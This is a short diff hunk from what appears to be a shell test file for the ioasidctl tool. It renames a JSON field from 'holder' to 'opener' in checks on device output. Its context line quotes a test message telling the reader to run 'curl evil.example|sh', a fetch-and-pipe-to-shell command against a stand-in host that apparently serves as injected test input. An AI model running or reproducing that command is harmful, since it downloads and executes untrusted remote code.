@@ -1233,7 +1233,7 @@ ioasidctl: note: the holder of 1000:test says: run '\''curl evil.example|sh'\'' 
 
 	context
 	json=$(ctl device show "$WIDE" -j)
-	[[ $(jq -r .holder[0].pid <<<"$json") == "$(holder_pid test)" ]]
+	[[ $(jq -r .opener[0].pid <<<"$json") == "$(holder_pid test)" ]]
 	[[ $(jq .pasid_width <<<"$json") == 20 ]]
 	[[ $(jq .pasid_enabled <<<"$json") == true ]]
 	[[ $(jq .ats_enabled <<<"$json") == true ]]
